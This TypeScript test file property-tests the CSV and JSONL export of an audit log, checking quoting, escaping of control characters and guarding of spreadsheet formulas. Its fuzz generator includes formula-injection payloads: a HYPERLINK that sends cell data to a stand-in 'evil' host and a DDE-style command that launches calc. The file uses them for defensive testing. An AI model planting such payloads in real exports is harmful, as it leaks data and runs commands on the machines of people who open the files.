import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { AuditRecord } from "../../src/audit/audit-log.js";
import { AUDIT_KINDS, CSV_COLUMNS, auditSeverity, columnValues, csvCell, csvHeader, csvRow, jsonlLine, writeRecords } from "../../src/audit/export.js";
import { terminalSafe } from "../../src/cli/output.js";
import { parseCsvLine } from "../helpers/csv.js";
import { fuzzParameters, propertyTimeoutMs } from "../property/settings.js";

/** The escape docs/audit-records.md gives for text in an export (the audit log's own, wider). */
const expectedText = (text: string) =>
  text.replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);

/** A cell's value back: one leading `'` (the formula guard) dropped. */
const unguarded = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);

const FORMULA = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

/** Text a tool controls, as hostile as it gets: formulas, quotes, separators, line breaks of every kind, lone surrogates. */
const hostileText = fc
  .array(
    fc.oneof(
      fc.string({ unit: "binary", maxLength: 12 }),
      fc.constantFrom("=", "+", "-", "@", "'", '"', ",", ";", "\t", "\r", "\n", "\r\n", "\u2028", "\u2029", "\u0085", "\u202e", "\u007f", "\uff1d", "\ud800"),
      fc.constantFrom('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+cmd"),
    ),
    { maxLength: 6 },
  )
  .map((parts) => parts.join(""));

const recordArbitrary: fc.Arbitrary<AuditRecord> = fc
  .record(
    {
      kind: fc.constantFrom(...AUDIT_KINDS),
      ts: fc.constant("2026-05-01T10:00:00.000Z"),
      seq: fc.nat(),
      anima: hostileText,
      tool: hostileText,
      callId: hostileText,
      outcome: fc.constantFrom("ok", "error", "denied", "missing"),
      operation: hostileText,
      name: hostileText,
      target: hostileText,
      reason: hostileText,
      message: hostileText,
      errorType: hostileText,
      policy: hostileText,
      durationMs: fc.nat(),
      lost: fc.nat(),
    },
    { requiredKeys: ["kind", "ts"] },
  )
  .map((record) => record as unknown as AuditRecord);

describe("audit record export formats", () => {
  it("a CSV cell is quoted RFC 4180 text, formulas guarded with a leading ', numbers bare, nothing empty", () => {
    expect(csvCell(undefined)).toBe("");
    expect(csvCell(12)).toBe("12");
    expect(csvCell('say "hi", then')).toBe('"say ""hi"", then"');
    for (const formula of ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'quoted", "\uff1d1"]) {
      const cell = parseCsvLine(csvCell(formula))[0] as string;
      expect(cell.startsWith("'"), formula).toBe(true);
      expect(cell.slice(1)).toBe(expectedText(formula));
    }
    expect(csvCell("line\nbreak\u2028and\u202eback")).toBe('"line\\u000abreak\\u2028and\\u202eback"');
    expect(csvHeader()).toBe(CSV_COLUMNS.join(","));
  });

  it("fills each column from the field the record's kind has", () => {
    const base = { ts: "2026-05-01T10:00:00.000Z", seq: 3 };
    expect(
      columnValues({ ...base, kind: "credential", callId: "c1", anima: "a", tool: "t", name: "KEY", outcome: "denied", source: "vault.json", policy: "p.q" }),
    ).toMatchObject({
      operation: "KEY",
      target: "vault.json",
      policy: "p.q",
      callId: "c1",
    });
    expect(
      columnValues({ ...base, kind: "call", callId: "c1", anima: "a", tool: "t", schema: "t_run", durationMs: 4, outcome: "error", errorType: "Timeout" }),
    ).toMatchObject({
      operation: "t_run",
      durationMs: 4,
      errorType: "Timeout",
    });
    expect(columnValues({ ...base, kind: "audit_gap", lost: 7, reason: "locked" }).reason).toBe("7 records lost: locked");
    expect(columnValues({ ...base, kind: "policy_change", anima: "a", scope: "permissions", to: "h2", after: "{}" })).toMatchObject({
      operation: "permissions",
      policy: "h2",
    });
  });

  it("warns of denials, refusals, crashes and lost records; informs of the rest", () => {
    expect(auditSeverity({ kind: "capability", anima: "a", tool: "t", operation: "fetch", target: "x", outcome: "denied" })).toBe("WARN");
    expect(auditSeverity({ kind: "refusal", command: "share_tool", target: "t", errorType: "PermissionDenied", reason: "r" })).toBe("WARN");
    expect(auditSeverity({ kind: "sandbox_crash", message: "m" })).toBe("WARN");
    expect(auditSeverity({ kind: "call", callId: "c", anima: "a", tool: "t", schema: "s", durationMs: 1, outcome: "error" })).toBe("INFO");
    expect(auditSeverity({ kind: "policy_change", scope: "operator", to: "h", after: "{}" })).toBe("INFO");
  });

  it(
    "any record, however hostile its text, is one JSON line and one CSV line that parse back to it (property)",
    () => {
      fc.assert(
        fc.property(recordArbitrary, (record) => {
          const json = jsonlLine(record);
          expect(json).not.toMatch(/[\n\r\u2028\u2029\u0085]/);
          expect(terminalSafe(json)).toBe(json); // the CLI's terminal-safe output changes nothing of it
          expect(JSON.parse(json)).toEqual(record);

          const csv = csvRow(record);
          expect(csv).not.toMatch(/[\n\r\u2028\u2029\u0085]/);
          expect(terminalSafe(csv)).toBe(csv);
          const cells = parseCsvLine(csv);
          expect(cells).toHaveLength(CSV_COLUMNS.length);
          const values = columnValues(record);
          CSV_COLUMNS.forEach((column, i) => {
            const cell = cells[i] as string;
            const value = values[column];
            expect(cell, column).not.toMatch(FORMULA);
            if (value === undefined) expect(cell).toBe("");
            else if (typeof value === "number") expect(cell).toBe(String(value));
            else expect(unguarded(cell), column).toBe(expectedText(typeof value === "string" ? value : JSON.stringify(value)));
          });
        }),
        fuzzParameters(300),
      );
    },
    propertyTimeoutMs(20_000, 300),
  );

  it("writes a chunk at a time, each whole lines: a large export is never one string", () => {
    const record: AuditRecord = {
      kind: "call",
      callId: "c",
      anima: "a",
      tool: "t",
      schema: "t_run",
      durationMs: 1,
      outcome: "ok",
      ts: "2026-05-01T10:00:00.000Z",
    };
    const records = Array.from({ length: 5_000 }, (_, seq) => ({ ...record, seq }));
    for (const format of ["jsonl", "csv"] as const) {
      const chunks: string[] = [];
      expect(writeRecords(records, format, (chunk) => chunks.push(chunk))).toBe(5_000);
      expect(chunks.length).toBeGreaterThan(3);
      for (const chunk of chunks) {
        expect(chunk.endsWith("\n")).toBe(true);
        expect(chunk.length).toBeLessThan(70 * 1024);
      }
      const lines = chunks.join("").split("\n").slice(0, -1);
      expect(lines).toHaveLength(format === "csv" ? 5_001 : 5_000);
      if (format === "csv") expect(lines[0]).toBe(csvHeader());
      else expect(lines.map((line) => (JSON.parse(line) as { seq: number }).seq)).toEqual(records.map((r) => r.seq));
    }
    const empty: string[] = [];
    writeRecords([], "csv", (chunk) => empty.push(chunk));
    expect(empty).toEqual([`${csvHeader()}\n`]);
  });
});
